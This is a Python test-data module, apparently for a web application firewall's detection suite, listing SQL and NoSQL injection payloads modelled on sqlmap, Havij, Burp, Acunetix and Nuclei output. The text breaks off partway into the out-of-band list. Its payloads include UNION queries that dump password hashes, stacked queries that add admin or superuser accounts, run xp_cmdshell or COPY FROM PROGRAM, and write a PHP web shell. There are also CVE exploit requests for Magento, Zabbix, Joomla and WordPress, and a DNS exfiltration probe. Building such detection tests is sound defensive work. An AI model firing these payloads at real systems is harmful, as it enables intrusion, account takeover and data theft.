"""Blind set "hundredseventyfifth": SQL and NoSQL injection the way the open-source attack tools generate it when
pointed at a parameter, with benign requests in which the same tool names, keywords and syntax appear innocently.

The angle: offensive tools' generated payloads, recalled from memory. sqlmap's boundaries (the prefix and suffix
it wraps around a test: ', '), ')), ", %' for LIKE, AS x WHERE for sub-selects, the comment it closes with), its
techniques (boolean-based blind, error-based, UNION query, stacked queries, time-based blind, inline queries,
out-of-band over DNS) with their random numbers, random aliases and q...q markers, its enumeration and takeover
queries (--dbs, --tables, --is-dba, --file-read, --file-write, --os-cmd, --reg-read) and its tamper scripts
(space2comment, versionedkeywords, modsecurityzeroversioned, randomcomments, between, equaltolike, charencode,
chardoubleencode, charunicodeencode, overlongutf8, unmagicquotes, apostrophemask, hex2char, ...); the probes and
confirmations of Havij, jSQL Injection, Ghauri, DSSS, OWASP ZAP's active scan, Burp Scanner (Collaborator
payloads included), Acunetix/Invicti, Arachni, w3af and Wapiti; NoSQLMap's and nosqli's MongoDB operator and
server-side JavaScript injections; PowerUpSQL/Metasploit-style stored-procedure command execution; and
Nuclei-template one-shot checks against products (Zabbix jsrpc, Joomla com_fields and com_contenthistory,
Magento Shoplift, the WordPress WP_Query tax_query, Django Trunc/Extract) with their md5(999999999) matchers.
Each list carries a comment naming the family, the tool style and the target (MySQL/MariaDB, PostgreSQL, SQL
Server, Oracle, SQLite, IBM DB2, MongoDB, or the product).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under the
parameter names the tools' demo targets use (id, cat, artist, pid, item, user), as a query string, form body,
JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie (sqlmap tests
the last three from --level 3). Whole login and product requests written as `name=value` pairs (NoSQLMap's
bracket operators, a scanner's login form, a Nuclei template's query string) go unquoted as the form body or the
query string; tamper output that is already percent-encoded (charencode, chardoubleencode, charunicodeencode,
overlongutf8, unmagicquotes) goes into the query string exactly as the tool writes it; MongoDB login documents go
as the whole JSON body; a Bearer token goes in Authorization. Payloads with control characters (the whitespace
tampers, appendnullbyte) never go into headers, cookies, XML or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
tools' output as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test,
tool source or public payload list was read or looked up. Measured once on unchanged code; deterministic (no
clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredseventyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]


def kv(payload: str) -> Entry:
    """A whole form body written as `name=value` pairs (sent unquoted)."""
    return (payload, "form", "rs-raw-body")


def rq(payload: str) -> Entry:
    """A whole query string as the tool writes it (sent unquoted)."""
    return (payload, "query", "rs-query")


def jb(payload: str) -> Entry:
    """A whole JSON document as the request body."""
    return (payload, "json-body", "rs-json-body")


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the first requests a scanner sends to a parameter, short token streams that break out of a
# string or number context; target: the SQL parser of whatever DBMS sits behind (MySQL, PostgreSQL, SQL Server,
# Oracle, SQLite)
LIBINJECTION: list[Entry] = [
    # sqlmap heuristic check: ten random characters from ' " ( ) , . appended to the value; the DBMS's parser
    # fails and the error page names the DBMS
    "1,'.)(\".((",
    "1)(\"',.).'",
    "1\".,('))(,",
    "1'),(.\")..",
    # Wapiti's sql module: a GBK lead byte, both quotes and a parenthesis (MySQL on a multibyte connection)
    "1\u00bf'\"(",
    # Arachni and w3af error probes: quote, backtick, double quote and a comment opener
    "1'`\"--",
    "d'z\"0",
    # OWASP ZAP active scan "SQL Injection": the boolean pairs appended to the original value (any DBMS)
    "1 AND 1=1 -- ",
    "1' AND '1'='1' -- ",
    "1\" AND \"1\"=\"1\" -- ",
    "1' OR '1'='1' -- ",
    "1 OR 1=1 -- ",
    "1\" OR \"1\"=\"1\" -- ",
    # Acunetix/Invicti arithmetic probes: the value turns true or false through arithmetic (MySQL, PG, MSSQL)
    "-1' OR 2+801-801-1=0+0+0+1 -- ",
    "-1 OR 2+468-468-1=0+0+0+1",
    "-1\" OR 2+129-129-1=0+0+0+1 -- ",
    "-1' OR 3*2<(0+5+468-468) -- ",
    "-1 OR 3*2>(0+5+231-231)",
    # Burp Scanner concatenation probes: the value still matches when the DBMS rebuilds it (Oracle/PG ||,
    # MSSQL +, MySQL adjacent literals)
    "1'||'",
    "1'+'",
    "1' '",
    # sqlmap's prefix/suffix boundaries around its boolean test (MySQL, PostgreSQL, SQL Server)
    "1') AND 4761=4761 AND ('XkQp'='XkQp",
    "1')) AND 4761=4761 AND (('XkQp'='XkQp",
    "1\") AND 4761=4761 AND (\"XkQp\"=\"XkQp",
    "1) AS XkQp WHERE 4761=4761-- -",
    "1') AS XkQp WHERE 4761=4761-- -",
    "1 AND 4761=4761-- XkQp",
    "1' AND 4761=4761 AND ('XkQp' LIKE 'XkQp",
]

# sql-tautology/boolean: sqlmap's "boolean-based blind" test pairs (true and false) and the variants Ghauri, DSSS
# and the commercial scanners use; target: MySQL, PostgreSQL, SQL Server, Oracle, SQLite
TAUTOLOGY: list[Entry] = [
    # sqlmap "AND boolean-based blind - WHERE or HAVING clause": the true/false pair it compares (any DBMS)
    "1 AND 8317=8317",
    "1 AND 8317=2290",
    "1' AND 5064=5064 AND 'tTrR'='tTrR",
    "1' AND 5064=9371 AND 'tTrR'='tTrR",
    "1\" AND 3392=3392 AND \"WnLp\"=\"WnLp",
    # "OR boolean-based blind": the original value becomes a negative number so only the OR matches
    "-6215 OR 3842=3842",
    "-6215' OR 3842=3842 AND 'uHbV'='uHbV",
    "-6215) OR 3842=3842 AND (1927=1927",
    "-6215' OR 3842=3842-- yZqe",
    # the NOT variants
    "1 OR NOT 7549=7549",
    "1' AND NOT 2187=6540-- NqHr",
    # MySQL RLIKE, MAKE_SET and ELT boolean-based blind
    "1 RLIKE (SELECT (CASE WHEN (6610=6610) THEN 1 ELSE 0x28 END))",
    "1' RLIKE (SELECT (CASE WHEN (6610=6610) THEN 0x31 ELSE 0x28 END))-- -",
    "1 AND MAKE_SET(4298=4298,2813)",
    "1 AND ELT(5517=5517,7723)",
    "1 OR ELT(5517=5517,7723)",
    # "boolean-based blind - Parameter replace (original value)": the whole value is a CASE expression
    "(SELECT (CASE WHEN (3104=3104) THEN 1 ELSE (SELECT 9025 UNION SELECT 6742) END))",
    "(SELECT (CASE WHEN (3104=3105) THEN 1 ELSE (SELECT 9025 UNION SELECT 6742) END))",
    # PostgreSQL: the false branch divides by zero
    "1 AND 4432=(SELECT (CASE WHEN (4432=4432) THEN 4432 ELSE 1/(SELECT 0) END))",
    # SQL Server / Sybase: the false branch returns two rows
    "1 AND 2716=(SELECT (CASE WHEN (2716=2716) THEN 2716 ELSE 2716*(SELECT 2716 UNION ALL SELECT 9172) END))-- -",
    # Oracle: the false branch divides by zero FROM DUAL
    "1 AND 6187=(SELECT (CASE WHEN (6187=6187) THEN 6187 ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)",
    # SQLite
    "1 AND 2539=(CASE WHEN (2539=2539) THEN 2539 ELSE 2539*(SELECT 2539 UNION ALL SELECT 8816) END)",
    # Ghauri and DSSS: quoted-string pairs
    "1' AND 'yPbQ'='yPbQ",
    "1' AND 'yPbQ'='yPbR",
    "1' OR 'kZvx'='kZvx'-- -",
    # Ghauri and Acunetix-style MySQL XOR booleans that work in any quote context
    "1'XOR(7141=7141)XOR'Z",
    "0\"XOR(2*3=6)XOR\"Z",
    # sqlmap "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)" (MySQL)
    "1 AND 9046=(SELECT (CASE WHEN (9046=9046) THEN 9046 ELSE (SELECT 3715 UNION SELECT 1244) END))-- -",
]

# sql-comment-sequence: the comment a tool closes its injection with, and the tamper scripts that turn spaces into
# comments plus newlines; target: MySQL (#, -- , /*), PostgreSQL, SQL Server, Oracle, SQLite, MS Access
COMMENT: list[Entry] = [
    # sqlmap's comment suffixes after the injected condition
    "1' AND 2904=2904#",
    "1' AND 2904=2904-- -",
    "1') AND 2904=2904-- -",
    "1')) AND 2904=2904-- ZAwb",
    "1\" AND 2904=2904-- -",
    "1 AND 2904=2904/*",
    "1' AND 2904=2904/*",
    "1' AND 2904=2904;#",
    # sqlmap's stacked-query terminators
    "1';-- -",
    "1);-- -",
    # space2dash tamper: every space becomes '--', random letters and a newline (MSSQL, SQLite)
    "1--nVNaVoPYeva\nAND--ngNvzqu\n9227=9227",
    # space2mysqldash tamper: '--' and a newline (MySQL)
    "1--\nAND--\n9227=9227",
    # space2hash tamper: '#', random letters and a newline (MySQL)
    "1#PTTmJopxdWJ\nAND#cWfcVRPV\n9227=9227",
    # space2morehash tamper, on a UNION (MySQL >= 5.1.13)
    "-3348#ghkfjdsaqw\nUNION#ahdjsoiwe\nALL#sdkjhqwe\nSELECT#pqowie\nNULL,NULL",
    # space2mysqldash on a UNION
    "-3348--\nUNION--\nALL--\nSELECT--\nNULL,NULL,NULL",
    # sp_password tamper: SQL Server hides a statement ending in sp_password from its trace log
    "1 AND 9227=9227-- sp_password",
    "1' AND 9227=9227--sp_password",
    # Havij's comment-wrapped tests (MySQL)
    "1/**/and/**/1=1",
    "1/**/and/**/1=2",
    "1'/**/and/**/'a'='a",
    # jSQL Injection / Ghauri terminators with '+' after '--' (MySQL needs a blank after the dashes)
    "1'--+-",
    "1' -- -+",
    # appendnullbyte tamper: a NUL ends the query for MS Access and C-string handling
    "1 AND 9227=9227\x00",
    "1' AND 9227=9227-- \x00",
    # Oracle: '--' only, ROWNUM kept inside the condition
    "1' AND 9227=9227 AND ROWNUM=1--",
    # Burp Scanner's comment probes after a quote
    "1'--",
    "1'#",
    "1'/*",
]

# union-select: sqlmap's UNION query technique (column count with NULLs, the marker column, the retrieval),
# Havij's hex-marker union, jSQL's integer columns and Nuclei's md5 matchers; target: MySQL, PostgreSQL,
# SQL Server, Oracle, SQLite
UNION: list[Entry] = [
    # sqlmap "Generic UNION query (NULL) - 1 to 10 columns"
    "1 UNION ALL SELECT NULL-- -",
    "1 UNION ALL SELECT NULL,NULL-- -",
    "1' UNION ALL SELECT NULL,NULL,NULL-- -",
    "1') UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "1\" UNION ALL SELECT NULL,NULL,NULL,NULL,NULL#",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL-- -",
    # the marker in one column, confirmed in the page (MySQL)
    "1 UNION ALL SELECT NULL,CONCAT(0x717a766b71,0x6a4d5a4f7570674b7a6f,0x71626a7071),NULL-- -",
    "-4518 UNION ALL SELECT CONCAT(0x717a766b71,0x4b4a7a6b4e,0x71626a7071),NULL#",
    # "MySQL UNION query (random number)" for pages that reject NULL columns
    "-4518 UNION ALL SELECT 3126,3126,3126,3126-- -",
    # retrieval through the found column (MySQL): current user, then mysql.user hashes
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20),0x71626a7071),NULL-- -",
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,IFNULL(CAST(user AS NCHAR),0x20),0x6b7a,IFNULL(CAST(authenticat"
    "ion_string AS NCHAR),0x20),0x71626a7071),NULL FROM mysql.user-- -",
    # PostgreSQL: CHR() markers and pg_user
    "1 UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113))||(CHR(78)||CHR(103))||(CHR(113)||CHR"
    "(98)||CHR(106)||CHR(112)||CHR(113)),NULL-- -",
    "-4518 UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113))||COALESCE(CAST(usename AS VARCHA"
    "R(10000))::text,(CHR(32)))||(CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)),NULL FROM pg_user-- -",
    # SQL Server: CHAR()+ markers and master..sysdatabases
    "1 UNION ALL SELECT NULL,CHAR(113)+CHAR(122)+CHAR(118)+CHAR(107)+CHAR(113)+CHAR(78)+CHAR(103)+CHAR(113)+CHAR(98)"
    "+CHAR(106)+CHAR(112)+CHAR(113),NULL-- -",
    "-4518 UNION ALL SELECT NULL,CHAR(113)+CHAR(122)+CHAR(118)+CHAR(107)+CHAR(113)+ISNULL(CAST(name AS NVARCHAR(4000"
    ")),CHAR(32))+CHAR(113)+CHAR(98)+CHAR(106)+CHAR(112)+CHAR(113) FROM master..sysdatabases-- -",
    # Oracle: every SELECT needs FROM DUAL
    "1 UNION ALL SELECT NULL,CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113)||CHR(78)||CHR(103)||CHR(113)||CHR(98)|"
    "|CHR(106)||CHR(112)||CHR(113),NULL FROM DUAL-- -",
    "-4518' UNION ALL SELECT NULL,NVL(CAST(banner AS VARCHAR(4000)),CHR(32)),NULL FROM v$version-- -",
    # SQLite
    "1 UNION ALL SELECT NULL,'qzvkq'||'Ng'||'qbjpq',NULL-- -",
    "-4518' UNION ALL SELECT NULL,sql,NULL FROM sqlite_master-- -",
    # Havij: the long decimal value and the hex marker in every column (MySQL)
    "999999.9 union all select 0x31303235343830303536,0x31303235343830303536,0x31303235343830303536--",
    "999999.9' union all select 0x31303235343830303536,0x31303235343830303536 and '0'='0",
    "999999.9\" union all select concat(0x27,0x7e,version(),0x7e,0x27),0x31303235343830303536--",
    # jSQL Injection-style column discovery with consecutive integers (MySQL)
    "-1 union select 1337,1338,1339,1340-- -",
    # Nuclei templates: md5 of a constant in the reflected column, the matcher looks for the hash (MySQL)
    "-1 UNION ALL SELECT NULL,md5(999999999),NULL-- -",
    "1') UNION ALL SELECT md5(999999999),NULL,NULL,NULL#",
    "-1' UNION SELECT 1,group_concat(md5(1234)),3-- -",
    # Nuclei template for a WordPress survey plugin's question id: char() marker in an eleven-column union
    "1 union select 1,1,char(116,101,115,116),4,5,6,7,8,9,10,11-- -",
    # a counted subquery as the only column (Ghauri)
    "-4518 UNION ALL SELECT (SELECT CONCAT(0x717a766b71,COUNT(*),0x71626a7071) FROM information_schema.tables),NULL-"
    "- -",
]

# stacked-queries: sqlmap's stacked-query detection and the helper tables it creates for --os-cmd and --file-read,
# Acunetix/Burp stacked delays, and product requests that chain a second statement; target: MySQL (multi-query
# connectors), PostgreSQL, SQL Server, SQLite, Magento on MySQL, Django on PostgreSQL
STACKED: list[Entry] = [
    # sqlmap "stacked queries (comment)": a second statement that only delays
    "1;SELECT SLEEP(5)#",
    "1';SELECT SLEEP(5)#",
    "1;SELECT PG_SLEEP(5)--",
    "1';SELECT PG_SLEEP(5)--",
    "1;WAITFOR DELAY '0:0:5'--",
    "1');WAITFOR DELAY '0:0:5'--",
    "1;SELECT BENCHMARK(5000000,MD5(0x41424344))#",
    # SQL Server: the delay declared from hex so no quote is needed
    "1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--",
    # PostgreSQL and SQLite heavy queries
    "1;SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)--",
    "1;SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "1;SELECT CASE WHEN (1=1) THEN PG_SLEEP(5) ELSE PG_SLEEP(0) END--",
    # sqlmap's helper tables (PostgreSQL --os-cmd and --file-read)
    "1;DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text)--",
    "1;COPY sqlmapoutput(data) FROM PROGRAM 'id'--",
    "1;DROP TABLE IF EXISTS sqlmapfile;CREATE TABLE sqlmapfile(data bytea)--",
    # SQL Server: the output table for xp_cmdshell results
    "1;CREATE TABLE sqlmapoutput(id INT PRIMARY KEY IDENTITY,data NVARCHAR(4000))--",
    "1;INSERT INTO sqlmapoutput(data) EXEC master..xp_cmdshell 'whoami'--",
    # sqlmap --sql-query on a multi-query MySQL connector: a new admin, a reset password
    "1;INSERT INTO users(username,password,role) VALUES('sqlmap','5f4dcc3b5aa765d61d8327deb882cf99','admin')#",
    "1';UPDATE users SET password=MD5('pwned') WHERE username='admin'#",
    # MySQL PREPARE of a hex-encoded statement (SELECT SLEEP(5))
    "1;SET @s=0x53454c45435420534c454550283529;PREPARE st FROM @s;EXECUTE st;#",
    # Acunetix and Burp Scanner stacked delays (SQL Server)
    "-1; waitfor delay '0:0:15' --",
    "-1); waitfor delay '0:0:15' --",
    "1'; waitfor delay '0:0:20'--",
    # SQL Server: sqlmap's --sql-query with a stacked SELECT INTO a new table
    "1;SELECT name,password_hash INTO sqlmapdump FROM sys.sql_logins--",
    # Magento "Shoplift" (the exploit and its Nuclei check): popularity[field_expr] closes the expression and
    # inserts an admin user and its role (MySQL)
    kv(
        "popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);INSERT INTO admin_user (firstname,lastname,ema"
        "il,username,password,created,lognum,reload_acl_flag,is_active,extra,rp_token_created_at) VALUES ('Firstname'"
        ",'Lastname','qzvk@example.com','qzvk',CONCAT(MD5('qXqzvk123'),':qX'),NOW(),0,0,1,NULL,NOW());INSERT INTO adm"
        "in_role (parent_id,tree_level,sort_order,role_type,user_id,role_name) VALUES (1,2,0,'U',(SELECT user_id FROM"
        " admin_user WHERE username='qzvk'),'Firstname');-- "
    ),
    # Django Trunc()/Extract() kind (CVE-2022-34265) on PostgreSQL: the kind string is spliced into the SQL
    "year' FROM start_datetime)) OR 1=1;SELECT PG_SLEEP(5)--",
    # SQLite: ATTACH a new database file in the web root (stacked-capable SQLite drivers)
    "1';ATTACH DATABASE '/var/www/html/qzvk.php' AS q;CREATE TABLE q.t(d text);INSERT INTO q.t VALUES('<?php system("
    "$_GET[\"c\"]); ?>');--",
    # PostgreSQL: a new superuser role (sqlmap --sql-query on a stacked-capable driver)
    "1;CREATE ROLE qzvk WITH LOGIN SUPERUSER PASSWORD 'qzvk'--",
]

# time-based-blind: sqlmap's time-based techniques per DBMS (query SLEEP, SLEEP, OR, RLIKE, BENCHMARK, heavy
# queries, PG_SLEEP, WAITFOR, DBMS_PIPE), the sleep2getlock tamper, Acunetix's now()=sysdate() polyglots, Burp
# Scanner's concatenated delays and Nuclei's duration checks; target: MySQL, PostgreSQL, SQL Server, Oracle, SQLite
TIME: list[Entry] = [
    # sqlmap "MySQL >= 5.0.12 AND time-based blind (query SLEEP)"
    "1 AND (SELECT 7395 FROM (SELECT(SLEEP(5)))hWbV)",
    "1' AND (SELECT 7395 FROM (SELECT(SLEEP(5)))hWbV) AND 'rQzE'='rQzE",
    "1) AND (SELECT 7395 FROM (SELECT(SLEEP(5)))hWbV) AND (2561=2561",
    # "MySQL >= 5.0.12 AND time-based blind (SLEEP)" and the OR variant
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5) AND 'PhnM'='PhnM",
    "1 OR SLEEP(5)",
    "-2837' OR SLEEP(5)#",
    # "MySQL RLIKE time-based blind"
    "1 RLIKE SLEEP(5)",
    # BENCHMARK for MySQL < 5.0.12
    "1 AND 4672=BENCHMARK(5000000,MD5(0x6e4a5761))",
    "1' AND 4672=BENCHMARK(5000000,MD5(0x6e4a5761))-- -",
    # "MySQL >= 5.0.12 time-based blind - Parameter replace"
    "(SELECT (CASE WHEN (8173=8173) THEN SLEEP(5) ELSE 8173 END))",
    # PostgreSQL: PG_SLEEP and the GENERATE_SERIES heavy query
    "1 AND 3315=(SELECT 3315 FROM PG_SLEEP(5))",
    "1' AND 3315=(SELECT 3315 FROM PG_SLEEP(5))-- -",
    "1 OR 3315=(SELECT 3315 FROM PG_SLEEP(5))",
    "1 AND 8824=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))",
    # SQL Server: WAITFOR and the sysusers cross-join heavy query
    "1 WAITFOR DELAY '0:0:5'",
    "1' WAITFOR DELAY '0:0:5'-- -",
    "1 AND 2847=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers A"
    "S sys5,sysusers AS sys6,sysusers AS sys7)",
    # Oracle: DBMS_PIPE.RECEIVE_MESSAGE and the ALL_USERS heavy query
    "1 AND 6392=DBMS_PIPE.RECEIVE_MESSAGE(CHR(71)||CHR(115)||CHR(84)||CHR(118),5)",
    "1' AND 6392=DBMS_PIPE.RECEIVE_MESSAGE(CHR(71)||CHR(115)||CHR(84)||CHR(118),5) AND 'Abcd'='Abcd",
    "1 AND 1854=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)",
    # SQLite: RANDOMBLOB heavy query
    "1 AND 5921=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))",
    # Acunetix/Invicti: now()=sysdate() and the quote-agnostic polyglot (MySQL), PG_SLEEP and DBMS_PIPE
    "if(now()=sysdate(),sleep(15),0)",
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "0\"XOR(if(now()=sysdate(),sleep(15),0))XOR\"Z",
    "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15))"
    ")v)+\"*/",
    "ZYaVFw7h' OR 150=(SELECT 150 FROM PG_SLEEP(15))--",
    "1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||'",
    # Burp Scanner: the delay concatenated into the string
    "'+(select*from(select(sleep(20)))a)+'",
    "'||pg_sleep(20)--",
    # Nuclei template time-based check with a duration matcher
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(6)))nucl)-- -",
    # sleep2getlock tamper: GET_LOCK waits instead of SLEEP (MySQL)
    "1 AND GET_LOCK('sqlmap',5)",
]

# error-based: sqlmap's error-based techniques (EXTRACTVALUE, UPDATEXML, FLOOR, BIGINT, EXP, GTID_SUBSET,
# JSON_KEYS, CAST, CONVERT, IN, XMLType, UTL_INADDR, CTXSYS, SQLID_TO_SQLHASH), Havij's double query, Nuclei's md5
# matchers and product checks; target: MySQL, PostgreSQL, SQL Server, Oracle, Zabbix, Joomla, WordPress
ERROR: list[Entry] = [
    # sqlmap "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)"
    "1 AND EXTRACTVALUE(5830,CONCAT(0x5c,0x717a766b71,(SELECT (ELT(5830=5830,1))),0x71626a7071))",
    "1' AND EXTRACTVALUE(5830,CONCAT(0x5c,0x717a766b71,(SELECT (ELT(5830=5830,1))),0x71626a7071))-- -",
    # (UPDATEXML), AND and OR
    "1 AND UPDATEXML(2614,CONCAT(0x2e,0x717a766b71,(SELECT (ELT(2614=2614,1))),0x71626a7071),7352)",
    "1 OR UPDATEXML(2614,CONCAT(0x2e,0x717a766b71,(SELECT (ELT(2614=2614,1))),0x71626a7071),7352)",
    # (FLOOR) for MySQL >= 5.0
    "1 AND (SELECT 1436 FROM(SELECT COUNT(*),CONCAT(0x717a766b71,(SELECT (ELT(1436=1436,1))),0x71626a7071,FLOOR(RAND"
    "(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    # (BIGINT UNSIGNED) and (EXP) for MySQL >= 5.5
    "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x717a766b71,(SELECT (ELT(9921=9921,1))),0x71626a7071,0x78))s"
    "), 8446744073709551610, 8446744073709551610)))",
    "1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x717a766b71,(SELECT (ELT(3371=3371,1))),0x71626a7071,0x78))x))",
    # (GTID_SUBSET) for MySQL >= 5.6 and (JSON_KEYS) for MySQL >= 5.7.8
    "1 AND GTID_SUBSET(CONCAT(0x717a766b71,(SELECT (ELT(4907=4907,1))),0x71626a7071),4907)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x717a766b71,(SELECT (ELT(6135=6135,1))),0x71626a7071)) USING ut"
    "f8)))",
    # PostgreSQL AND error-based (CAST to NUMERIC)
    "1 AND 7702=CAST((CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113))||(SELECT (CASE WHEN (7702=7702) THEN 1 ELSE "
    "0 END))::text||(CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)) AS NUMERIC)",
    "1' AND 7702=CAST((SELECT version())::text AS NUMERIC)-- -",
    "1' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)-- -",
    # SQL Server (IN) and (CONVERT)
    "1 AND 5531 IN (SELECT (CHAR(113)+CHAR(122)+CHAR(118)+CHAR(107)+CHAR(113)+(SELECT (CASE WHEN (5531=5531) THEN CH"
    "AR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(98)+CHAR(106)+CHAR(112)+CHAR(113)))",
    "1 AND 5531=CONVERT(INT,(SELECT CHAR(113)+CHAR(122)+CHAR(118)+CHAR(107)+CHAR(113)+(SELECT (CASE WHEN (5531=5531)"
    " THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(98)+CHAR(106)+CHAR(112)+CHAR(113)))",
    "1' AND 5531=CONVERT(INT,@@version)-- -",
    "1' AND 1=CAST(SYSTEM_USER AS INT)-- -",
    # Oracle (XMLType), (UTL_INADDR.GET_HOST_ADDRESS), (CTXSYS.DRITHSX.SN), (DBMS_UTILITY.SQLID_TO_SQLHASH)
    "1 AND 8846=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113)||(SELECT (C"
    "ASE WHEN (8846=8846) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)||CHR(62))) "
    "FROM DUAL)",
    "1 AND 3390=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113)||(SELECT (CASE WHEN (33"
    "90=3390) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113))",
    "1 AND 1267=CTXSYS.DRITHSX.SN(1267,(CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113)||(SELECT (CASE WHEN (1267=1"
    "267) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)))",
    "1 AND 4418=DBMS_UTILITY.SQLID_TO_SQLHASH((CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113)||(SELECT (CASE WHEN "
    "(4418=4418) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)))",
    # Havij's double-query error (MySQL)
    "1 and (select 1 from(select count(*),concat((select (select concat(0x27,0x7e,database(),0x27,0x7e)) from inform"
    "ation_schema.tables limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a) and 1=1",
    # Nuclei templates: md5 of a constant inside the XPath error (MySQL)
    "1 AND updatexml(0x23,concat(1,md5(999999999)),1)",
    "1' AND extractvalue(1,concat(char(126),md5(999999999)))-- -",
    "1) AND extractvalue(rand(),concat(0x3a,md5(999999999)))-- -",
    # Zabbix jsrpc.php profileIdx2 (CVE-2016-10134), the Nuclei request (MySQL)
    rq(
        "type=9&method=screen.get&timestamp=1471403798083&mode=2&screenid=&groupid=&hostid=0&pageFile=history.php&pro"
        "fileIdx=web.item.graph&profileIdx2=updatexml(0,concat(0xa,user()),0)&updateProfile=true&screenitemid=&period"
        "=3600&stime=20160817050632&resourcetype=17"
    ),
    # Joomla com_contenthistory list[select] (CVE-2015-7297), the EXP overflow error (MySQL)
    rq(
        "option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(exp(~(select * from"
        " (select user())x)))"
    ),
    # WordPress WP_Query tax_query terms (CVE-2022-21661) through a plugin's ajax action (MySQL)
    kv(
        "action=test&data={\"tax_query\":{\"0\":{\"field\":\"term_taxonomy_id\",\"terms\":[\"111) and extractvalue(ra"
        "nd(),concat(0x5e,user(),0x5e))#\"]}}}"
    ),
]

# out-of-band: sqlmap --dns-domain, --file-read and --file-write (the --os-shell stager), Burp Collaborator
# payloads, Ghauri/Nuclei interaction checks; target: MySQL (LOAD_FILE of a UNC path, INTO OUTFILE/DUMPFILE),
# SQL Server (xp_dirtree, xp_subdirs, xp_fileexist, OPENROWSET), Oracle (UTL_INADDR, UTL_HTTP, HTTPURITYPE,
# DBMS_LDAP, XXE in extractvalue), PostgreSQL (COPY TO PROGRAM, dblink, pg_read_file, lo_import)
OOB: list[Entry] = [
    # sqlmap --dns-domain on MySQL (Windows server): LOAD_FILE of a UNC path resolves the marker through DNS
    "1 AND (SELECT LOAD_FILE(CONCAT(0x5c5c,(SELECT MID(IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20),1,63)),0x2e71676e2"
    "e6f6f622e6578616d706c652e6e6574,0x5c61)))",
    # sqlmap --dns-domain on SQL Server: xp_dirtree of a UNC path built from the hex of the value
